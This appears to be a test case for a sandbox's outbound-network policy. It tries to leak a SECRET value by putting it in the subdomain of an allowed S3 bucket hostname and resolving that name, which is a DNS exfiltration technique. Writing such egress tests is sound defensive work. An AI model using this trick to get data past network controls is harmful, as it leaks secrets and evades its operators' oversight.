# class: network
# rule: outbound_connectivity
# policy: buckets.yaml
# success: a name below an allowed bucket's is looked up
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo(SECRET + ".my-bucket.s3.us-east-1.amazonaws.com", 443)
